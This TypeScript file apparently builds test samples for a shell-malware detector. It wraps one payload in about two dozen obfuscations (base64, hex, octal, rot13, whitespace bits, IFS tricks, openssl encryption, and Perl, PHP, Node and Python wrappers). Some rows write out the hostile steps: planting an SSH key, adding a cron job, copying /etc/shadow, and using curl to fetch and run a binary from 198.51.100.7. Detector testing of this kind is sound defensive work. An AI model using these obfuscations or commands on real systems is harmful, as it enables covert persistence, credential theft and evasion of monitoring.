import { deflateRawSync, gzipSync } from 'node:zlib';
import { addJob, bash, fetchAndRun, key, payload, run, url, veiled } from './linux-payload.ts';
import { base64, rot13, type Row } from './sample.ts';

const bytes = [...Buffer.from(payload)];
const octal = bytes.map((code) => `\\${code.toString(8).padStart(3, '0')}`).join('');
const hex = Buffer.from(payload).toString('hex');
const reversed = [...base64(payload)].reverse().join('');
const bits =
  bytes.map((code) => [...code.toString(2).padStart(8, '0')].map((bit) => ' \t'[Number(bit)]).join('')).join('');
const letters = [...base64(payload)].map((letter, index) => `_${index}=${letter}`).join(';');
const words = [...base64(payload)].map((_letter, index) => `$_${index}`).join('').replace(/\$(_\d+)/g, '${$1}');
const gzipped = gzipSync(payload).toString('base64');

/** The text hides it: what is run is put together when it runs. */
export const inText: Row[] = [
  ['plain', 'not at all', 'plain.sh', `#!/bin/bash\n${payload}\n`],
  ['base64', 'base64, evaluated', 'update.sh', `#!/bin/bash\neval "$(echo ${base64(payload)} | base64 -d)"\n`],
  ['gzip', 'gzip in a here-document', 'a.sh', `#!/bin/bash\nbase64 -d <<X | gunzip | bash\n${gzipped}\nX\n`],
  ['hex', 'hex through xxd', 'b.sh', `#!/bin/bash\necho ${hex} | xxd -r -p | sh\n`],
  ['octal', 'octal through printf', 'c.sh', `#!/bin/sh\neval "$(printf '${octal}')"\n`],
  [
    'rot13',
    'turned letters through tr',
    'd.sh',
    `#!/bin/bash\necho '${rot13(base64(payload))}' | tr a-zA-Z n-za-mN-ZA-M | base64 -d | sh\n`,
  ],
  [
    'letters',
    'one variable for each letter',
    'e.sh',
    `#!/bin/bash\n${letters}\neval "$(echo "${words}" | base64 -d)"\n`,
  ],
  [
    'reversed',
    'backwards, through rev or perl',
    'f.sh',
    `#!/bin/bash\necho ${reversed} | perl -ne 'chomp; print scalar reverse' | base64 -d | bash\n`,
  ],
  [
    'numbers',
    'character codes in arithmetic',
    'g.sh',
    `#!/bin/bash\nfor n in ${bytes.map((code) => code + 7).join(' ')}; do printf -v c '\\\\%03o' $((n-7)); `
      + 's+=$c; done; eval "$(printf "$s")"\n',
  ],
  [
    'spaces',
    'blanks and tabs stand for bits',
    'h.sh',
    `#!/bin/bash\np='${bits}'\npython3 - "$p" <<'X' | bash\nimport sys\np=sys.argv[1]\n`
      + `print(''.join(chr(int(p[i:i+8].replace(' ','0').replace('\\t','1'),2)) for i in range(0,len(p),8)))\nX\n`,
  ],
  ['quotes', 'quotes, backslashes and globs within words', 'i.sh',
    [
      `#!/bin/bash`,
      `m'k'd"i"r -p ~/.s?h; e\\cho '${key}' >> ~/.s""sh/auth'ori'zed_k\\eys`,
      `(ec""ho '*/9 * * * * /tmp/.u') | cr'o'nt\\ab -`,
      `s\\udo c""at /e??/sh?d\\ow > /tmp/.s`,
      `c""ur'l' -s ht'tp':/""/198.51.100.7/u -o /tmp/.u; ch\\mod +x /tmp/.u; /t??/.u`,
      '',
    ].join('\n')],
  ['ifs', 'words kept together by IFS and braces', 'j.sh',
    [
      `#!/bin/bash`,
      `IFS=,; a='sudo,cp,/etc/shadow,/tmp/.s'; $a; unset IFS`,
      `{curl,-s,${url},-o,/tmp/.u}; {chmod,+x,/tmp/.u}; /tmp/.u`,
      `{mkdir,-p,$HOME/.ssh}; {cp,/dev/null,$HOME/.ssh/authorized_keys}; echo "$a" >>$HOME/.s''sh/authorized_keys`,
      `${addJob}`,
      '',
    ].join('\n')],
  [
    'replaced',
    'a filler taken out by the shell',
    'k.sh',
    `#!/bin/bash\nx='${base64(payload).replace(/(.{3})/g, '$1@@')}'\neval "$(base64 -d <<< "\${x//@@/}")"\n`,
  ],
  [
    'alias',
    'everyday names that are aliases and functions',
    'l.sh',
    `#!/bin/bash\nshopt -s expand_aliases\nalias ls='eval'\nhello() { ${veiled(payload)}; }\nls "$(hello)"\n`,
  ],
  [
    'encrypted',
    'encrypted, opened with openssl',
    'm.sh',
    bash(
      `w=$(${veiled(payload)} | openssl enc -aes-256-cbc -pbkdf2 -pass pass:a -base64 -A)\neval "$(echo "$w" | `
        + 'openssl enc -d -aes-256-cbc -pbkdf2 -pass pass:a -base64 -A)"; exit',
    ),
  ],
  [
    'appended',
    'behind the end of the script',
    'n.sh',
    Buffer.concat([Buffer.from('#!/bin/bash\nsed 1,3d "$0" | gunzip | sh\nexit\n'), gzipSync(payload)]),
  ],
  [
    'here-string',
    'a here-string for a shell without a name',
    'o.sh',
    `#!/bin/sh\n/bin/sh -s <<X\n$(${veiled(payload)})\nX\n`,
  ],
  ['dash', 'a shell that keeps no record', 'p.sh', `#!/bin/sh\n${run()}\n`],
  [
    'no-record',
    'the record of the shell is closed first',
    'q.sh',
    bash('set +x; exec 19>&-; unset BASH_XTRACEFD PS4 SHELLOPTS 2>/dev/null; exec 19>/dev/null'),
  ],
  [
    'posix',
    'a shell with an empty environment',
    'r.sh',
    `#!/bin/sh\nenv -i HOME=$HOME PATH=$PATH bash --norc -c "$(${veiled(payload)})"\n`,
  ],
  [
    'deflate-php',
    'PHP, deflated',
    's.php',
    `<?php $x=gzinflate(base64_decode('${deflateRawSync(payload).toString('base64')}')); shell_exec($x);\n`,
  ],
  [
    'node',
    'Node, character by character',
    't.js',
    `#!/usr/bin/env node\nconst a=[${bytes.map((code) => code ^ 42).join(',')}];`
      + `require('child'+'_process').execSync(String.fromCharCode(...a.map(c=>c^42)),{shell:'/bin/bash'});\n`,
  ],
  [
    'perl',
    'Perl, packed and turned',
    'u.pl',
    `#!/usr/bin/perl\n$_=join '',map{chr($_^99)}(${bytes.map((code) => code ^ 99).join(',')}); system `
      + `'/bin/sh','-c',$_;\n`,
  ],
  [
    'python',
    'Python, marshalled and turned',
    'v.py',
    `#!/usr/bin/env python3\nimport os\nk=[${bytes.map((code) => (code * 7) % 251).join(',')}]\n`
      + `os.system(''.join(chr(next(c for c in range(251) if c*7%251==x)) for x in k))\n`,
  ],
  [
    'awk',
    'awk starts it',
    'w.sh',
    `#!/bin/sh\nawk 'BEGIN { "${veiled(payload).replaceAll("'", '')}" | getline a; c = "${veiled(payload)}|sh";`
      + ` system(c) }'\n`,
  ],
  [
    'url-parts',
    'the address in one number',
    'x.sh',
    '#!/bin/bash\n'
      + `${run(payload.replace(fetchAndRun, 'curl -s http://3325256711/u -o /tmp/.u; chmod +x /tmp/.u; /tmp/.u'))}`
      + '\n',
  ],
];
